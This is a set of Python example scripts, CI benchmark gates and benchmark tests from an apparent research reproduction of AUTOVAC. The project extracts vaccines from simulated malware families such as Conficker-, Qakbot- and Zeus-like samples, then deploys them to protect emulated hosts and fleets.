        print(f"  {rtype:10s} {mix}")

    print(f"\nvaccines: {len(result.vaccines)} from "
          f"{result.samples_with_vaccines}/{size} samples")
    print_table("Table-IV style: vaccines by resource x immunization",
                result.count_by_resource_and_immunization())
    print_table("Table-V style (upper): vaccine resource mix per category",
                result.count_by_category_and_resource())
    print_table("Table-V style (lower): delivery mix per category",
                result.count_by_category_and_delivery())
    print("\nidentifier kinds:", result.count_by_identifier_kind())
    print("delivery:", result.count_by_delivery())


if __name__ == "__main__":
    main()
