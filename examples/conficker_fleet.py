"""Immunize a fleet against a Conficker-like worm with a *slice* vaccine.

The worm marks infected machines with a mutex derived from the computer name
(algorithm-deterministic identifier).  A static vaccine cannot cover the
fleet — every machine needs its own marker — so AUTOVAC extracts the
name-generation program slice once, and each host's vaccine daemon replays it
locally to compute and inject that machine's marker (paper §V, §VI-D).

Run:  python examples/conficker_fleet.py
"""

from repro import AutoVac, MachineIdentity, SystemEnvironment, VaccinePackage, deploy
from repro.core import IdentifierKind, run_sample
from repro.corpus import build_family

FLEET = [
    "ACCOUNTING-01",
    "ACCOUNTING-02",
    "BUILD-SERVER",
    "RECEPTION",
    "LAB-WORKSTATION-WITH-LONG-NAME",
    "DC01",
    "KIOSK-7",
    "DEV-BOX-ALICE",
    "DEV-BOX-BOB",
    "PRINT-SERVER-9",
]


def main() -> None:
    worm = build_family("conficker")

    # Analysis machine: extract the vaccines once.
    analysis = AutoVac().analyze(worm)
    slice_vaccines = [v for v in analysis.vaccines
                      if v.identifier_kind is IdentifierKind.ALGORITHM_DETERMINISTIC]
    assert slice_vaccines, "expected an algorithm-deterministic mutex vaccine"
    vaccine = slice_vaccines[0]
    print("extracted slice vaccine:")
    print(f"  observed identifier on analysis box: {vaccine.identifier!r}")
    print(f"  generation inputs: {', '.join(vaccine.slice.env_inputs)}")
    print(f"  slice: {len(vaccine.slice)} recorded steps, "
          f"re-execution needed: {vaccine.slice.requires_reexecution}")

    package = VaccinePackage(vaccines=analysis.vaccines)

    print(f"\nimmunizing a fleet of {len(FLEET)} machines:")
    protected = 0
    for i, name in enumerate(FLEET):
        host = SystemEnvironment(identity=MachineIdentity(computer_name=name),
                                 rng_seed=1000 + i)
        deployment = deploy(package, host)
        marker = next((m.name for m in host.mutexes if m.name.startswith("Global\\")), None)

        # Attack each machine with the worm.
        run = run_sample(worm, environment=host, record_instructions=False)
        infected = run.environment.network.bytes_sent_by(run.process.pid) > 0
        status = "PROTECTED" if run.trace.terminated and not infected else "INFECTED"
        protected += status == "PROTECTED"
        print(f"  {name:34s} marker={marker!r:44} -> {status}")

    print(f"\n{protected}/{len(FLEET)} machines immune")
    assert protected == len(FLEET)

    # Control: an unvaccinated machine does get infected.
    victim = SystemEnvironment(identity=MachineIdentity(computer_name="UNPROTECTED"))
    run = run_sample(worm, environment=victim, record_instructions=False)
    print(f"control (no vaccine): exit={run.trace.exit_status}, "
          f"scan traffic={run.environment.network.bytes_sent_by(run.process.pid)} bytes")


if __name__ == "__main__":
    main()
