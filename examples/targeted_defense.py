"""Defending a targeted environment (paper §II, scenario 3).

"Some targeted malware is designed to work in a specific system environment.
Our vaccine can attempt to make each protected system different from malware
targeted environment, so as to be immune from the infection."

The sample here only detonates on industrial-control workstations carrying
specific vendor indicators plus its own stage-1 artifact.  AUTOVAC must
analyze it *in a replica of the target environment* (otherwise the payload
stays dormant and there is nothing to vaccinate against); the extracted
environment-difference vaccine then protects the real fleet without touching
the vendor software.

Run:  python examples/targeted_defense.py
"""

from repro import AutoVac, SystemEnvironment, VaccinePackage, deploy
from repro.core import run_sample, verify_all
from repro.corpus import build_targeted_apt, prepare_target_environment


def main() -> None:
    apt = build_targeted_apt()

    # On an ordinary machine the sample leaves silently — nothing to learn.
    plain = AutoVac().analyze(apt)
    print(f"analysis on a generic machine: {len(plain.vaccines)} vaccines "
          f"(sample stays dormant)")

    # Build a replica of the targeted environment and analyze there.
    replica = prepare_target_environment(SystemEnvironment())
    analysis = AutoVac(environment=replica).analyze(apt)
    print(f"analysis on a target replica: {len(analysis.vaccines)} vaccines")
    for vaccine in analysis.vaccines:
        print(f"  - {vaccine.describe()}")

    # Choose the clean environment-difference vaccine: the malware's own
    # staging artifact, not the vendor software's resources.
    stage = [v for v in analysis.vaccines if "stg1" in v.identifier]
    print(f"\nselected vaccine: {stage[0].identifier} ({stage[0].mechanism.value})")

    # Verify the claimed effect by real deployment before shipping.
    verification = verify_all(apt, stage, environment=replica)
    print(f"verification: {verification.verified_count}/{len(stage)} verified "
          f"(observed: {verification.results[0].observed.value}, "
          f"BDR {verification.results[0].bdr:.0%})")
    assert verification.all_verified

    # Protect a production SCADA workstation.
    workstation = prepare_target_environment(SystemEnvironment(rng_seed=31))
    deploy(VaccinePackage(vaccines=stage), workstation)
    attack = run_sample(apt, environment=workstation, record_instructions=False)
    traffic = attack.environment.network.bytes_sent_by(attack.cpu.process.pid)
    print(f"\nattack on the vaccinated workstation: exit={attack.trace.exit_status}, "
          f"exfil traffic={traffic} bytes")
    assert traffic == 0

    # The vendor software's indicators are untouched on the protected host.
    assert workstation.registry.exists("hklm\\software\\industro\\plc")
    assert workstation.windows.exists("ScadaControlWnd")
    print("vendor software indicators intact — only the malware's own "
          "constraint was flipped")


if __name__ == "__main__":
    main()
