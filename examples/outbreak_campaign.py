"""Outbreak simulation: what a vaccination campaign buys a fleet.

The paper motivates vaccines epidemiologically — "prevent it from infecting
a wider range of machines (considering the case of botnets)" and "protect
our uninfected machines from the attacks, until a better detection or
prevention solution … is available".  Here a Conficker-like worm spreads
through a fleet where every infection attempt actually *executes* the worm
on the target machine; a vaccine campaign lands at round 2.

Run:  python examples/outbreak_campaign.py
"""

from repro import AutoVac, VaccinePackage
from repro.campaign import Fleet, simulate_outbreak
from repro.corpus import build_family

FLEET_SIZE = 30
ROUNDS = 7


def curve(label: str, history) -> None:
    print(f"\n{label}")
    print("  round  infected  vaccinated  new   curve")
    for s in history:
        bar = "#" * s.infected
        print(f"  {s.round:5d}  {s.infected:8d}  {s.vaccinated:10d}  {s.newly_infected:3d}   {bar}")


def main() -> None:
    worm = build_family("conficker")

    # Capture the binary at the initial infection stage -> generate vaccines.
    analysis = AutoVac().analyze(worm)
    package = VaccinePackage(vaccines=analysis.vaccines)
    print(f"extracted {len(package)} vaccines from the first captured sample")

    baseline = simulate_outbreak(worm, Fleet(FLEET_SIZE, seed=7), rounds=ROUNDS)
    curve("no vaccination:", baseline.history)
    print(f"  final infection rate: {baseline.final_infection_rate:.0%}")

    campaign = simulate_outbreak(
        worm, Fleet(FLEET_SIZE, seed=7), rounds=ROUNDS,
        vaccine_package=package, vaccinate_at_round=2, coverage=1.0,
    )
    curve("vaccination campaign at round 2 (full coverage):", campaign.history)
    print(f"  final infection rate: {campaign.final_infection_rate:.0%}")

    partial = simulate_outbreak(
        worm, Fleet(FLEET_SIZE, seed=7), rounds=ROUNDS,
        vaccine_package=package, vaccinate_at_round=2, coverage=0.5,
    )
    curve("vaccination campaign at round 2 (50% coverage):", partial.history)
    print(f"  final infection rate: {partial.final_infection_rate:.0%}")

    assert campaign.final_infection_rate < partial.final_infection_rate
    assert partial.final_infection_rate < baseline.final_infection_rate
    print("\nfull coverage < partial coverage < no vaccine — the use case holds")


if __name__ == "__main__":
    main()
