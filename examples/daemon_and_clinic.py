"""Vaccine daemon (partial-static regex interception) and the clinic test.

A Qakbot-like sample names its single-instance mutex ``qbot-<random>-lk``: no
static name can be pre-created, but the skeleton is stable, so the vaccine is
a regex the daemon matches at API-interception time (paper §V "identifying
resource name represented using regular expressions").  Before shipping, the
clinic test (§IV-D) checks the whole package against benign software.

Run:  python examples/daemon_and_clinic.py
"""

from repro import AutoVac, SystemEnvironment, VaccinePackage, deploy
from repro.core import IdentifierKind, Immunization, Mechanism, Vaccine, clinic_test, run_sample
from repro.corpus import benign_suite, build_family
from repro.winenv import ResourceType


def main() -> None:
    qakbot = build_family("qakbot")
    analysis = AutoVac().analyze(qakbot)

    partial = [v for v in analysis.vaccines
               if v.identifier_kind is IdentifierKind.PARTIAL_STATIC]
    print("qakbot vaccines:")
    for vaccine in analysis.vaccines:
        print(f"  - {vaccine.describe()}")
        if vaccine.pattern:
            print(f"      regex: {vaccine.pattern}")

    # Clinic test: does the package interfere with benign software?
    suite = benign_suite()
    report = clinic_test(analysis.vaccines, suite)
    print(f"\nclinic test over {report.programs_tested} benign programs: "
          f"{len(report.incidents)} incidents, {len(report.passed)} vaccines pass")
    assert report.clean

    # Counter-example: a careless vaccine that collides with the media
    # player's lock mutex is caught and rejected by the clinic.
    careless = Vaccine(
        malware="careless", resource_type=ResourceType.MUTEX,
        identifier="mplayer_lock", identifier_kind=IdentifierKind.STATIC,
        mechanism=Mechanism.ENFORCE_FAILURE, immunization=Immunization.FULL,
    )
    bad_report = clinic_test(analysis.vaccines + [careless], suite)
    print(f"with a colliding vaccine added: {len(bad_report.incidents)} incident(s); "
          f"rejected: {[v.identifier for v in bad_report.rejected]}")
    assert careless in bad_report.rejected

    # Deploy the clean package; the daemon intercepts matching creations.
    host = SystemEnvironment()
    deployment = deploy(VaccinePackage(vaccines=report.passed), host)
    daemon = deployment.daemon
    print(f"\ndeployed: {len(deployment.injections)} direct injections, "
          f"daemon with {len(daemon.vaccines)} vaccine(s)")

    run = run_sample(qakbot, environment=host, record_instructions=False)
    print(f"qakbot on the vaccinated host: exit={run.trace.exit_status}, "
          f"{len(run.trace.api_calls)} API calls")
    print(f"daemon stats: {daemon.calls_seen} calls inspected, "
          f"{daemon.calls_matched} blocked")
    assert run.trace.terminated

    # Benign software still runs cleanly alongside the daemon.
    for program in suite:
        benign_run = run_sample(program, environment=host, record_instructions=False)
        assert benign_run.trace.exit_status == "halted"
    print("benign suite unaffected on the vaccinated host")


if __name__ == "__main__":
    main()
