"""Quickstart: extract vaccines from a Zeus-like sample and immunize a host.

Run:  python examples/quickstart.py
"""

from repro import AutoVac, SystemEnvironment, VaccinePackage, deploy
from repro.core import run_sample
from repro.corpus import build_family


def main() -> None:
    # 1. Obtain the sample (here: the built-in Zeus/Zbot analogue).
    zeus = build_family("zeus")
    print(f"sample: {zeus.name} ({len(zeus.instructions)} instructions)")

    # 2. Run the full AUTOVAC pipeline: Phase I candidate selection,
    #    Phase II exclusiveness/impact/determinism analysis.
    autovac = AutoVac()
    analysis = autovac.analyze(zeus)
    print(f"\nPhase I: {analysis.phase1.total_occurrences} resource-API occurrences, "
          f"{len(analysis.phase1.candidates)} candidate resources")
    print(f"Phase II: {len(analysis.vaccines)} vaccines generated:")
    for vaccine in analysis.vaccines:
        print(f"  - {vaccine.describe()}")

    # 3. Package the vaccines (the artifact you would distribute).
    package = VaccinePackage(vaccines=analysis.vaccines,
                             description="zeus immunization pack")
    print(f"\npackage: {len(package)} vaccines, "
          f"{len(package.to_json())} bytes of JSON")

    # 4. Phase III: deploy onto an end host.
    host = SystemEnvironment()
    deployment = deploy(package, host)
    for record in deployment.injections:
        print(f"  injected: {record.action} {record.identifier}")

    # 5. Verify: the malware now refuses to infect the vaccinated host.
    before = run_sample(zeus, record_instructions=False)  # pristine machine
    after = run_sample(zeus, environment=host, record_instructions=False)
    print(f"\nmalware on a pristine host:   {len(before.trace.api_calls):3d} API calls, "
          f"exit={before.trace.exit_status}")
    print(f"malware on vaccinated host:   {len(after.trace.api_calls):3d} API calls, "
          f"exit={after.trace.exit_status}")
    reduction = 1 - len(after.trace.api_calls) / len(before.trace.api_calls)
    print(f"behaviour decreasing ratio:   {reduction:.1%}")

    explorer = after.environment.processes.find_by_name("explorer.exe")
    print(f"explorer.exe injected?        {explorer.was_injected}")
    assert not explorer.was_injected


if __name__ == "__main__":
    main()
