#!/usr/bin/env python3
"""CI bench-regression gate for the Phase-II impact benchmarks.

Workflow (what the perf-smoke job runs):

1. read the *committed* per-sample latency baseline
   (``_artifacts/impact_baseline.json``) before the bench overwrites it;
2. run ``bench_impact.py`` (which rewrites the artifact with this machine's
   numbers);
3. compare per-sample latency against the baseline and write the verdict to
   ``BENCH_impact.json`` at the repo root; exit non-zero on a regression.

CI runners are not the machine the baseline was recorded on, so raw ratios
mix hardware speed with real regressions.  The gate divides each sample's
ratio by the *median* ratio across samples — a uniformly slower runner
scales every sample alike and normalizes out, while a change that slows one
code path (one family shape) sticks out.  A sample regresses when its
normalized ratio exceeds ``1 + TOLERANCE``; improvements are reported but
never fail the gate.
"""

from __future__ import annotations

import json
import statistics
import subprocess
import sys
from pathlib import Path

#: Allowed per-sample slowdown after hardware normalization (±35%).
TOLERANCE = 0.35

BENCH_DIR = Path(__file__).resolve().parent
REPO_ROOT = BENCH_DIR.parent
BASELINE = BENCH_DIR / "_artifacts" / "impact_baseline.json"
VERDICT = REPO_ROOT / "BENCH_impact.json"


def _load_per_sample(path: Path) -> dict:
    doc = json.loads(path.read_text())
    per_sample = doc.get("per_sample_seconds", {})
    if not per_sample:
        raise SystemExit(f"error: {path} has no per_sample_seconds")
    return per_sample


def main() -> int:
    if not BASELINE.exists():
        print(f"error: no committed baseline at {BASELINE}", file=sys.stderr)
        return 1
    baseline = _load_per_sample(BASELINE)

    print("running bench_impact.py ...")
    proc = subprocess.run(
        [sys.executable, "-m", "pytest", "bench_impact.py", "-q"],
        cwd=BENCH_DIR,
        env={
            **__import__("os").environ,
            "PYTHONPATH": str(REPO_ROOT / "src"),
        },
    )
    if proc.returncode != 0:
        print("error: bench_impact.py failed", file=sys.stderr)
        return proc.returncode

    current = _load_per_sample(BASELINE)  # the bench rewrote the artifact
    shared = sorted(set(baseline) & set(current))
    if not shared:
        print("error: baseline and current runs share no samples", file=sys.stderr)
        return 1

    ratios = {name: current[name] / baseline[name] for name in shared}
    speed_factor = statistics.median(ratios.values())
    rows = []
    regressions = []
    for name in shared:
        normalized = ratios[name] / speed_factor if speed_factor else 1.0
        regressed = normalized > 1.0 + TOLERANCE
        rows.append(
            {
                "sample": name,
                "baseline_seconds": baseline[name],
                "current_seconds": current[name],
                "ratio": round(ratios[name], 4),
                "normalized_ratio": round(normalized, 4),
                "regressed": regressed,
            }
        )
        if regressed:
            regressions.append(name)

    verdict = {
        "tolerance": TOLERANCE,
        "hardware_speed_factor": round(speed_factor, 4),
        "samples": rows,
        "regressions": regressions,
        "ok": not regressions,
    }
    VERDICT.write_text(json.dumps(verdict, indent=2) + "\n")

    width = max(len(r["sample"]) for r in rows)
    print(f"\nper-sample latency vs baseline (speed factor {speed_factor:.2f}x, "
          f"tolerance ±{TOLERANCE:.0%} normalized):")
    for r in rows:
        mark = "REGRESSED" if r["regressed"] else (
            "improved" if r["normalized_ratio"] < 1.0 - TOLERANCE else "ok"
        )
        print(f"  {r['sample']:<{width}}  {r['baseline_seconds'] * 1e3:8.2f} ms "
              f"-> {r['current_seconds'] * 1e3:8.2f} ms  "
              f"x{r['normalized_ratio']:.2f}  {mark}")
    print(f"wrote {VERDICT}")
    if regressions:
        print(f"FAIL: per-sample latency regression: {', '.join(regressions)}",
              file=sys.stderr)
        return 1
    print("OK: no per-sample latency regressions")
    return 0


if __name__ == "__main__":
    sys.exit(main())
