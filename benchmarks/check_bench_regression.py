#!/usr/bin/env python3
"""CI bench-regression gate for the committed latency baselines.

Workflow (what the perf-smoke job runs), once per gated bench:

1. read the *committed* per-case latency baseline from ``_artifacts/``
   before the bench overwrites it;
2. run the bench (which rewrites the artifact with this machine's
   numbers);
3. compare per-case latency against the baseline and write the verdict to
   ``BENCH_<name>.json`` at the repo root; exit non-zero on a regression.

Gated benches: ``bench_impact.py`` (Phase-II per-sample latency,
``impact_baseline.json``), the rule-engine matching micro-bench in
``bench_perf_overhead.py`` (``engine_baseline.json``), the superblock
kernels in ``bench_vm.py`` (``vm_baseline.json``), and the hot-path
profiler latency bench in ``bench_prof.py`` (``prof_baseline.json``) —
all write the same ``per_sample_seconds`` schema, so one comparator
gates them all.

CI runners are not the machine the baseline was recorded on, so raw ratios
mix hardware speed with real regressions.  The gate divides each case's
ratio by the *median* ratio across cases — a uniformly slower runner
scales every case alike and normalizes out, while a change that slows one
code path (one family shape, one match shape) sticks out.  A case
regresses when its normalized ratio exceeds ``1 + TOLERANCE``;
improvements are reported but never fail the gate.
"""

from __future__ import annotations

import json
import statistics
import subprocess
import sys
from pathlib import Path

#: Allowed per-case slowdown after hardware normalization (±35%).
TOLERANCE = 0.35

BENCH_DIR = Path(__file__).resolve().parent
REPO_ROOT = BENCH_DIR.parent

#: (gate name, pytest target, committed baseline artifact).
GATES = (
    ("impact", "bench_impact.py", "impact_baseline.json"),
    (
        "engine",
        "bench_perf_overhead.py::test_perf_rule_engine_matching",
        "engine_baseline.json",
    ),
    ("vm", "bench_vm.py", "vm_baseline.json"),
    ("prof", "bench_prof.py::test_prof_latency_baseline", "prof_baseline.json"),
)


def _load_per_case(path: Path) -> dict:
    doc = json.loads(path.read_text())
    per_case = doc.get("per_sample_seconds", {})
    if not per_case:
        raise SystemExit(f"error: {path} has no per_sample_seconds")
    return per_case


def run_gate(name: str, target: str, baseline_name: str) -> int:
    baseline_path = BENCH_DIR / "_artifacts" / baseline_name
    verdict_path = REPO_ROOT / f"BENCH_{name}.json"
    if not baseline_path.exists():
        print(f"error: no committed baseline at {baseline_path}", file=sys.stderr)
        return 1
    baseline = _load_per_case(baseline_path)

    print(f"running {target} ...")
    proc = subprocess.run(
        [sys.executable, "-m", "pytest", target, "-q"],
        cwd=BENCH_DIR,
        env={
            **__import__("os").environ,
            "PYTHONPATH": str(REPO_ROOT / "src"),
        },
    )
    if proc.returncode != 0:
        print(f"error: {target} failed", file=sys.stderr)
        return proc.returncode

    current = _load_per_case(baseline_path)  # the bench rewrote the artifact
    shared = sorted(set(baseline) & set(current))
    if not shared:
        print("error: baseline and current runs share no cases", file=sys.stderr)
        return 1

    ratios = {case: current[case] / baseline[case] for case in shared}
    speed_factor = statistics.median(ratios.values())
    rows = []
    regressions = []
    for case in shared:
        normalized = ratios[case] / speed_factor if speed_factor else 1.0
        regressed = normalized > 1.0 + TOLERANCE
        rows.append(
            {
                "sample": case,
                "baseline_seconds": baseline[case],
                "current_seconds": current[case],
                "ratio": round(ratios[case], 4),
                "normalized_ratio": round(normalized, 4),
                "regressed": regressed,
            }
        )
        if regressed:
            regressions.append(case)

    verdict = {
        "bench": target,
        "tolerance": TOLERANCE,
        "hardware_speed_factor": round(speed_factor, 4),
        "samples": rows,
        "regressions": regressions,
        "ok": not regressions,
    }
    verdict_path.write_text(json.dumps(verdict, indent=2) + "\n")

    width = max(len(r["sample"]) for r in rows)
    print(f"\n[{name}] per-case latency vs baseline (speed factor "
          f"{speed_factor:.2f}x, tolerance ±{TOLERANCE:.0%} normalized):")
    for r in rows:
        mark = "REGRESSED" if r["regressed"] else (
            "improved" if r["normalized_ratio"] < 1.0 - TOLERANCE else "ok"
        )
        print(f"  {r['sample']:<{width}}  {r['baseline_seconds'] * 1e3:8.2f} ms "
              f"-> {r['current_seconds'] * 1e3:8.2f} ms  "
              f"x{r['normalized_ratio']:.2f}  {mark}")
    print(f"wrote {verdict_path}")
    if regressions:
        print(f"FAIL [{name}]: per-case latency regression: "
              f"{', '.join(regressions)}", file=sys.stderr)
        return 1
    print(f"OK [{name}]: no per-case latency regressions")
    return 0


def main() -> int:
    status = 0
    for name, target, baseline_name in GATES:
        status = run_gate(name, target, baseline_name) or status
    return status


if __name__ == "__main__":
    sys.exit(main())
