"""Population-executor scaling — speedup vs worker count, cache resume.

The paper's workload is 1,716 samples through Phase I–III; the executor
fans hermetic per-sample analyses out to worker processes and caches
results content-addressed on disk.  This bench records:

* wall time and speedup for ``jobs = 1, 2, 4`` (asserting the ≥2× target at
  4 jobs only on machines with ≥4 CPUs — correctness is asserted on every
  machine: all jobs levels must produce identical tables);
* cold vs warm cache wall time, and that a warm run is all cache hits;
* the fault-tolerance machinery's cost on an all-healthy run, and that a
  survey with injected failures keeps every healthy analysis.

Artifacts: ``_artifacts/scaling.txt``, ``_artifacts/fault_tolerance.txt``.
Scale knob: ``REPRO_SCALING_SIZE`` (default 48 samples).
"""

import multiprocessing
import os
import time

from repro import obs
from repro.core.executor import PipelineConfig, analyze_population
from repro.core.faults import FaultPlan
from repro.corpus import GeneratorConfig, generate_population

from benchutil import write_artifact

SCALING_SIZE = int(os.environ.get("REPRO_SCALING_SIZE", "48"))
SCALING_SEED = 21


def _tables(result):
    return (
        result.count_by_resource_and_immunization(),
        result.count_by_identifier_kind(),
        result.count_by_delivery(),
        result.occurrence_stats(),
        [v.to_dict() for v in result.vaccines],
    )


def test_scaling_speedup(tmp_path):
    programs = [
        s.program
        for s in generate_population(GeneratorConfig(size=SCALING_SIZE, seed=SCALING_SEED))
    ]
    config = PipelineConfig()
    cores = multiprocessing.cpu_count() or 1

    wall = {}
    base_tables = None
    for jobs in (1, 2, 4):
        obs.reset()
        started = time.perf_counter()
        result = analyze_population(programs, config=config, jobs=jobs)
        wall[jobs] = time.perf_counter() - started
        tables = _tables(result)
        if base_tables is None:
            base_tables = tables
        else:
            # Identical tables at every jobs level, on every machine.
            assert tables == base_tables, f"jobs={jobs} diverged from jobs=1"
        assert obs.metrics.value("pipeline.population_analyzed") == SCALING_SIZE

    cache_dir = tmp_path / "cache"
    obs.reset()
    started = time.perf_counter()
    cold = analyze_population(programs, config=config, jobs=1, cache=cache_dir)
    cold_s = time.perf_counter() - started
    cold_misses = obs.metrics.value("pipeline.cache_misses")

    obs.reset()
    started = time.perf_counter()
    warm = analyze_population(programs, config=config, jobs=1, cache=cache_dir)
    warm_s = time.perf_counter() - started
    warm_hits = obs.metrics.value("pipeline.cache_hits")

    lines = [
        f"Population-executor scaling ({SCALING_SIZE} samples, "
        f"{cores}-CPU machine)",
        f"{'jobs':>6s}{'wall':>10s}{'speedup':>9s}",
    ]
    for jobs in (1, 2, 4):
        lines.append(
            f"{jobs:6d}{wall[jobs]:9.2f}s{wall[1] / wall[jobs]:8.2f}x"
        )
    lines += [
        "",
        f"cache cold: {cold_s:6.2f}s  ({cold_misses:.0f} misses, all analyzed + stored)",
        f"cache warm: {warm_s:6.2f}s  ({warm_hits:.0f} hits, no analysis)",
        f"warm speedup: {cold_s / warm_s:.1f}x",
    ]
    write_artifact("scaling.txt", "\n".join(lines) + "\n")

    assert _tables(cold) == base_tables and _tables(warm) == base_tables
    assert warm_hits == SCALING_SIZE and warm_s < cold_s
    if cores >= 4:
        # The acceptance target: >=2x at 4 jobs on a 4-core runner.
        assert wall[1] / wall[4] >= 2.0


def test_fault_tolerance_keeps_healthy_results():
    """A survey with injected failures completes, quarantines exactly the
    planned samples, and the healthy vaccine set matches a fault-free run
    minus the quarantined samples' contributions."""
    size = min(SCALING_SIZE, 24)
    programs = [
        s.program
        for s in generate_population(GeneratorConfig(size=size, seed=SCALING_SEED))
    ]
    config = PipelineConfig(sample_retries=0, retry_backoff=0.0)

    started = time.perf_counter()
    clean = analyze_population(programs, config=config, jobs=2)
    clean_s = time.perf_counter() - started

    plan = FaultPlan.parse("crash:1,hang:4", hang_seconds=0.0)
    started = time.perf_counter()
    faulted = analyze_population(programs, config=config, jobs=2, faults=plan)
    faulted_s = time.perf_counter() - started

    assert sorted(f.index for f in faulted.failed()) == [1, 4]
    assert len(faulted.succeeded()) == size - 2
    failed_names = {f.sample for f in faulted.failed()}
    expected = [
        v.to_dict()
        for a in clean.analyses
        if a.program.name not in failed_names
        for v in a.vaccines
    ]
    assert [v.to_dict() for v in faulted.vaccines] == expected

    write_artifact(
        "fault_tolerance.txt",
        "\n".join(
            [
                f"Fault-tolerant survey ({size} samples, jobs=2)",
                f"all-healthy run:        {clean_s:6.2f}s",
                f"crash+hang injected:    {faulted_s:6.2f}s "
                f"({len(faulted.failed())} quarantined, "
                f"{len(faulted.succeeded())} healthy kept)",
            ]
        )
        + "\n",
    )
