"""Table V — vaccine statistics per malware family/category.

Paper shape: file vaccines common across all families (Virus 81%,
Downloader 45%); window vaccines suit adware (47%); mutex vaccines suit
worms (29%) and backdoors; direct injection dominates delivery (63-84%) with
only ~20-37% needing the daemon.
"""

import pytest

from benchutil import render_table, write_artifact


def _shares(row: dict) -> dict:
    total = sum(row.values())
    return {k: v / total for k, v in row.items()} if total else {}


@pytest.mark.benchmark(group="table5")
def test_table5_resource_mix_per_category(benchmark, population):
    _, result = population
    table = result.count_by_resource_and_immunization()  # warm anything lazy
    per_category = result.count_by_category_and_resource()
    write_artifact("table5_upper.txt", render_table(
        "Table V (upper) reproduction — vaccine type per category", per_category))

    # File vaccines appear for (almost) every category and dominate overall.
    overall = {}
    for row in per_category.values():
        for rtype, n in row.items():
            overall[rtype] = overall.get(rtype, 0) + n
    assert overall["file"] == max(overall.values())

    # Virus samples (file infectors) are file-heavy, as in the paper (81%).
    virus = _shares(per_category.get("virus", {}))
    if virus:
        assert virus.get("file", 0) >= max(virus.values()) - 1e-9

    benchmark(result.count_by_category_and_resource)


def test_table5_mutex_favours_worms_and_backdoors(population):
    _, result = population
    per_category = result.count_by_category_and_resource()
    backdoor = _shares(per_category.get("backdoor", {}))
    downloader = _shares(per_category.get("downloader", {}))
    # Paper: mutex 8%/29% for backdoors/worms vs 2% for downloaders.  Worms
    # are only ~6% of the corpus, so at bench scale we assert the claim on
    # the high-population categories and on worms only when enough worm
    # vaccines exist.
    assert backdoor.get("mutex", 0) >= downloader.get("mutex", 0)
    worm_row = per_category.get("worm", {})
    if sum(worm_row.values()) >= 8:
        worm = _shares(worm_row)
        assert worm.get("mutex", 0) >= downloader.get("mutex", 0)


def test_table5_delivery_split(population):
    """Paper: direct injection 63-84% per category; daemon 16-37%."""
    _, result = population
    per_category = result.count_by_category_and_delivery()
    write_artifact("table5_lower.txt", render_table(
        "Table V (lower) reproduction — delivery per category", per_category))
    total_direct = sum(row.get("direct_injection", 0) for row in per_category.values())
    total_daemon = sum(row.get("daemon", 0) for row in per_category.values())
    assert total_direct > total_daemon
    share = total_daemon / max(total_direct + total_daemon, 1)
    assert share < 0.45  # paper: 20-37% need the daemon
