"""Use-case bench (paper §I / §II "Use Case of Vaccines").

Not a numbered table in the paper, but its central motivation: capturing one
sample early and vaccinating the uninfected fleet caps the outbreak.  The
bench sweeps campaign coverage and records the infection curves.
"""

import pytest

from repro import AutoVac, VaccinePackage
from repro.campaign import Fleet, simulate_outbreak
from repro.corpus import build_family

from benchutil import write_artifact

FLEET = 16
ROUNDS = 5


@pytest.fixture(scope="module")
def worm_package():
    worm = build_family("conficker")
    return worm, VaccinePackage(vaccines=AutoVac().analyze(worm).vaccines)


@pytest.mark.benchmark(group="campaign")
def test_campaign_coverage_sweep(benchmark, worm_package):
    worm, package = worm_package
    lines = ["Vaccination-campaign sweep (Conficker-like worm, "
             f"fleet={FLEET}, campaign at round 2)"]
    finals = {}
    for coverage in (0.0, 0.25, 0.5, 1.0):
        result = simulate_outbreak(
            worm, Fleet(FLEET, seed=11), rounds=ROUNDS,
            vaccine_package=package if coverage else None,
            vaccinate_at_round=2, coverage=coverage,
        )
        finals[coverage] = result.final_infection_rate
        curve = " ".join(str(s.infected) for s in result.history)
        lines.append(f"coverage={coverage:4.0%}: final={result.final_infection_rate:4.0%}  "
                     f"curve: {curve}")
    write_artifact("campaign.txt", "\n".join(lines) + "\n")

    # Shape: more coverage, fewer infections; full coverage caps the outbreak
    # at (roughly) its pre-campaign level.
    assert finals[1.0] <= finals[0.5] <= finals[0.0]
    assert finals[0.0] > 0.8
    assert finals[1.0] < 0.5

    benchmark(lambda: simulate_outbreak(
        worm, Fleet(6, seed=1), rounds=2, vaccine_package=package,
        vaccinate_at_round=1))


def test_campaign_timing_matters(worm_package):
    """Vaccinating earlier contains more — the 'quickly generate vaccines'
    argument in the paper's use case."""
    worm, package = worm_package
    early = simulate_outbreak(worm, Fleet(FLEET, seed=4), rounds=ROUNDS,
                              vaccine_package=package, vaccinate_at_round=1)
    late = simulate_outbreak(worm, Fleet(FLEET, seed=4), rounds=ROUNDS,
                             vaccine_package=package, vaccinate_at_round=4)
    assert early.final_infection_rate <= late.final_infection_rate
