"""Phase-II impact-analysis performance: snapshot-resume vs full rerun,
plus the predecoded interpreter fast path.

The dominant Phase-II cost is re-executing the sample once per candidate ×
mechanism; snapshot-resume checkpoints the guest at each candidate's first
interception site and replays only the divergent suffix.  This bench pins:

* **equivalence** — snapshot and legacy paths produce identical outcomes on
  a crafted sample whose compute preamble dwarfs its payload;
* **speedup** — ≥2× end-to-end on a sample with ≥6 candidate-mechanism runs
  (the paper-shaped case: long unpack loop, several infection markers);
* **interpreter** — the untainted fast path beats the recording interpreter
  by a healthy margin on straight-line compute (≥1.15× asserted; the real
  number lands in the artifact).

Artifacts: ``_artifacts/impact.txt`` (human-readable numbers),
``_artifacts/impact_baseline.json`` (machine-readable per-sample latency
baseline for regression eyeballing), and ``_artifacts/impact_profile.txt``
(per-family hot-path attribution, so a BENCH_impact regression names the
handler/tier/phase that moved).
"""

from __future__ import annotations

import gc
import json
import time

from repro import obs
from repro.core.candidate import select_candidates
from repro.core.impact import ImpactAnalyzer
from repro.core.pipeline import AutoVac
from repro.corpus import all_families
from repro.tracing import serialize
from repro.vm import superblock as vm_superblock
from repro.corpus.builder import (
    MUTEX_ALL_ACCESS,
    AsmBuilder,
    frag_beacon,
    frag_exit,
    frag_persist_run_key,
)
from repro.vm import CPU, assemble
from repro.winapi import Dispatcher
from repro.winenv import SystemEnvironment

from benchutil import min_wall_seconds, write_artifact

#: 6-instruction unpack loop body → 24k-step compute preamble.
UNPACK_ROUNDS = 4000


def _bench_sample():
    """Paper-shaped worst case for full reruns: a long unpacking loop, then
    three infection-marker checks (6 candidate-mechanism runs), then a
    beacon + persistence payload."""
    b = AsmBuilder("impact_bench")
    b.comment("unpack-style compute preamble")
